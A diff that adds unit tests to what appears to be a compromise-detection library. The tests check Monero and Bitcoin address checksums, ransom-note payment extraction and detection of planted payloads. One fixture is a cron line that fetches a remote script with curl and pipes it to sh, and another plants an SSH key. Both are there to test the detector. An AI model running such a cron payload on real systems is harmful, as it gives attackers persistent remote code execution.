@@ -2,7 +2,17 @@
 
 from __future__ import annotations
 
-from perisai.compromise import detect_ransom_note, is_note_name
+from perisai.classify.validators import monero
+from perisai.compromise import (
+    detect_planted_payload,
+    detect_ransom_note,
+    is_note_name,
+    payment_addresses,
+)
+
+# The Monero project's published donation address, and the same with one character changed.
+XMR = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
+XMR_TYPO = XMR[:50] + ("X" if XMR[50] != "X" else "Y") + XMR[51:]
 
 NOTE = (
     "All your data is backed up. You must pay 0.0125 BTC to "
@@ -28,3 +38,32 @@ def test_note_names() -> None:
     assert is_note_name("READ_ME_TO_RECOVER_YOUR_DATA")
     assert is_note_name("db0/WARNING")
     assert not is_note_name("messages")
+
+
+def test_monero_address_by_its_keccak_checksum() -> None:
+    assert monero(XMR)
+    assert not monero(XMR_TYPO)
+    assert not monero(XMR[:-1])
+
+
+def test_payment_addresses_only_when_checksums_hold() -> None:
+    text = (
+        f"send 0.5 XMR to {XMR} or BTC to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT; "
+        f"not {XMR_TYPO} and not 1BoatSLRHtKNngkdXEeobR76b53LETtpyU"
+    )
+    assert payment_addresses(text) == (XMR, "1BoatSLRHtKNngkdXEeobR76b53LETtpyT")
+
+
+def test_planted_cron_job_and_ssh_key() -> None:
+    cron = detect_planted_payload(
+        "db0/backup1", "\n\n*/1 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n\n"
+    )
+    assert cron is not None and cron.kind == "cron job" and "curl" in cron.preview
+    key = detect_planted_payload("db0/backup2", "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x\n")
+    assert key is not None and key.kind == "SSH public key"
+
+
+def test_schedules_and_prose_are_not_planted_payloads() -> None:
+    assert detect_planted_payload("cfg", "*/5 * * * *") is None  # a schedule, no command
+    assert detect_planted_payload("cfg", "0 3 * * * run nightly report") is None
+    assert detect_planted_payload("doc", "use ssh-rsa keys of 4096 bits") is None
